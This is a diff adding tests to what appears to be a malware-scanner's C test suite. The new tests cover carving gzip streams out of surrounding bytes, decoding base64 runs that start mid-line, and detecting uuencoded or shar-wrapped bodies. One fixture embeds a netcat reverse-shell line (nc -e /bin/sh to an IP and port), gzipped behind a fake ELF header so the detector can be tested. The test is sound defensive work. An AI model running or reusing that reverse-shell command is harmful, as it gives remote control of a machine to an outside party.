@@ -13,9 +13,11 @@
 #include <lzma.h>
 #include <stdlib.h>
 #include <string.h>
+#include <zlib.h>
 #include <zstd.h>
 #include "testlib.h"
 #include "yara/b64find.h"
+#include "yara/uufind.h"
 #include "yara/members.h"
 #include "yara/nested.h"
 #include "yara/unwrap.h"
@@ -27,11 +29,13 @@ typedef struct seen {
     size_t n, streamed;
 } seen;
 
-static int on_mem(void *ud, const char *member, const unsigned char *p, size_t n, pc_err *e)
+static int on_mem(void *ud, const char *member, const unsigned char *p, size_t n, size_t *inner_at,
+                  pc_err *e)
 {
     seen *s = ud;
     (void)e;
     (void)p;
+    (void)inner_at; /* (1: not known; the walk looks) */
     if (s->n < 64) {
         snprintf(s->names[s->n], sizeof s->names[s->n], "%s", member);
         s->sizes[s->n] = n;
@@ -626,6 +630,35 @@ static void test_lzip(void)
     u = pc_unwrap_new(PC_WRAP_LZIP, NULL, 0, mem_pull, &m);
     CHECK(u && pc_unwrap_read(u, out, sizeof out) == -1 && pc_unwrap_over(u));
     pc_unwrap_free(u);
+    /* that stream as a file of its own: a bound; after other bytes (a
+     * stream carve.h finds, perhaps on chance bytes): it ends there */
+    seen sa = {0}, sb = {0};
+    pc_err e = {{0}};
+    CHECK(inspect_rc(big, sizeof big, 1 << 20, 0, 0, 0, &sa, &e) == -1 &&
+          strstr(e.msg, "needs more memory"));
+    unsigned char after[128] = "a program's data, then: ";
+    memcpy(after + 32, big, sizeof big);
+    CHECK(inspect_rc(after, sizeof after, 1 << 20, 0, 0, 0, &sb, &e) == 0);
+    /* netcat's gzip after other bytes: opened where it starts */
+    unsigned char gz[256], plain[64] = "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444 # NETCAT";
+    size_t gl = sizeof gz - 20;
+    z_stream zs = {0};
+    CHECK(deflateInit2(&zs, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY) == Z_OK);
+    zs.next_in = plain;
+    zs.avail_in = sizeof plain;
+    zs.next_out = gz + 20;
+    zs.avail_out = (uInt)gl;
+    CHECK(deflate(&zs, Z_FINISH) == Z_STREAM_END);
+    gl = zs.total_out;
+    deflateEnd(&zs);
+    memcpy(gz,
+           "\x7f"
+           "ELF and some data ..",
+           20);
+    seen c = {0};
+    inspect(gz, 20 + gl, 1 << 20, 0, 0, &c);
+    CHECK(c.n == 1 && strcmp(c.names[0], "(at byte 20) > (gzip)") == 0 &&
+          c.sizes[0] == sizeof plain);
 }
 
 /* base64 runs: found in text with CRLF line breaks, decoded as base64 -d
@@ -704,6 +737,104 @@ static void test_b64(void)
     r = pc_b64_next(&it, &len);
     CHECK(r == text + 9);
     CHECK(r && pc_b64_decode(r, len, out) == sizeof data && memcmp(out, data, sizeof data) == 0);
+}
+
+/* A run whose first line starts after other bytes of its line (<<EOF, a
+ * script's last word): read as it is, then from its second line; an
+ * indented block is one run; a run that starts its line, or a string
+ * literal, has one reading. */
+static void test_b64_second(void)
+{
+    unsigned char data[240], out[400];
+    char text[2000];
+    for (size_t i = 0; i < sizeof data; i++)
+        data[i] = (unsigned char)(i * 11 + 5);
+    static const char al[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    char enc[400];
+    size_t el = 0;
+    for (size_t i = 0; i < sizeof data; i += 3) {
+        unsigned v = (unsigned)data[i] << 16 | (unsigned)data[i + 1] << 8 | data[i + 2];
+        for (int k = 3; k >= 0; k--)
+            enc[el++] = al[(v >> (6 * k)) & 63];
+    }
+    static const char *const heads[] = {"base64 -d <<EOF\n", "exit $res\n", "x = '", "",
+                                        "    return b64decode('''\n        "};
+    static const char *const seps[] = {"\n", "\n", "\\\n", "\r\n", "\n        "};
+    static const size_t readings[] = {2, 2, 1, 1, 1};
+    for (size_t h = 0; h < sizeof heads / sizeof *heads; h++) {
+        size_t t = (size_t)snprintf(text, sizeof text, "%s", heads[h]);
+        for (size_t i = 0; i < el; i += 76)
+            t += (size_t)snprintf(text + t, sizeof text - t, "%.*s%s",
+                                  (int)(el - i < 76 ? el - i : 76), enc + i,
+                                  i + 76 < el ? seps[h] : "\nEOF\n");
+        pc_b64_it it;
+        size_t len = 0, n = 0, good = 0;
+        const unsigned char *r;
+        pc_b64_begin(&it, (const unsigned char *)text, t);
+        while ((r = pc_b64_next(&it, &len)) != NULL) {
+            n++;
+            size_t dl = pc_b64_decode(r, len, out);
+            good += dl >= sizeof data && memcmp(out, data, sizeof data) == 0;
+        }
+        CHECK(n == readings[h]);
+        CHECK(good == 1);
+    }
+}
+
+/* uuencoded bodies: as uuencode writes them (CRLF too), with shar's "X"
+ * before every line, after text; a line whose count says more than it
+ * holds gives only what it holds; a "begin" line inside a line, a body
+ * under PC_B64_MIN bytes, a binary file: none. */
+static void test_uu(void)
+{
+    unsigned char data[200], out[400];
+    char text[1600];
+    for (size_t i = 0; i < sizeof data; i++)
+        data[i] = (unsigned char)(i * 13 + 1);
+    for (int variant = 0; variant < 3; variant++) {
+        const char *pre = variant == 1 ? "X" : "", *eol = variant == 2 ? "\r\n" : "\n";
+        size_t t = (size_t)snprintf(text, sizeof text,
+                                    "#!/bin/sh\nsed 's/^X//' <<'E' | uudecode\n"
+                                    "begin 755 agent%s",
+                                    eol);
+        for (size_t i = 0; i < sizeof data; i += 45) {
+            size_t k = sizeof data - i < 45 ? sizeof data - i : 45;
+            t += (size_t)snprintf(text + t, sizeof text - t, "%s%c", pre, (char)(' ' + k));
+            for (size_t j = 0; j < k; j += 3) {
+                unsigned v = (unsigned)data[i + j] << 16 |
+                             (unsigned)(j + 1 < k ? data[i + j + 1] : 0) << 8 |
+                             (j + 2 < k ? data[i + j + 2] : 0);
+                for (int b = 3; b >= 0; b--) {
+                    unsigned c = (v >> (6 * b)) & 63;
+                    text[t++] = (char)(c ? ' ' + c : '`');
+                }
+            }
+            t += (size_t)snprintf(text + t, sizeof text - t, "%s", eol);
+        }
+        t += (size_t)snprintf(text + t, sizeof text - t, "%s`%s%send%sE\n", pre, eol, pre, eol);
+        pc_uu_it it;
+        size_t len = 0, prefix = 9;
+        pc_uu_begin(&it, (const unsigned char *)text, t);
+        const unsigned char *r = pc_uu_next(&it, &len, &prefix);
+        CHECK(r && prefix == (variant == 1));
+        CHECK(r && pc_uu_decode(r, len, prefix, out) == sizeof data &&
+              memcmp(out, data, sizeof data) == 0);
+        CHECK(pc_uu_next(&it, &len, &prefix) == NULL);
+        CHECK(pc_uu_wants((const unsigned char *)text, t));
+    }
+    /* counts of 63 on lines of two characters: three bytes for four */
+    size_t t = (size_t)snprintf(text, sizeof text, "begin 644 x\n");
+    while (t < 1000)
+        t += (size_t)snprintf(text + t, sizeof text - t, "_AB\n");
+    pc_uu_it it;
+    size_t len = 0, prefix = 0;
+    pc_uu_begin(&it, (const unsigned char *)text, t);
+    const unsigned char *r = pc_uu_next(&it, &len, &prefix);
+    CHECK(r && pc_uu_decode(r, len, prefix, out) <= len / 4 * 3 + 3);
+    CHECK(!pc_uu_wants((const unsigned char *)"say begin 644 x\nM86)C\n", 22));
+    CHECK(!pc_uu_wants((const unsigned char *)"begin 644 x\n&86)C9&5F\n`\nend\n", 29));
+    memcpy(text + 20, "\0", 1);
+    CHECK(!pc_uu_wants((const unsigned char *)text, t));
 }
 
 static void test_sniff(void)
@@ -792,6 +923,8 @@ int main(void)
     test_bounds();
     test_lzip();
     test_b64();
+    test_b64_second();
+    test_uu();
     test_depth();
     test_stream();
     test_stub();
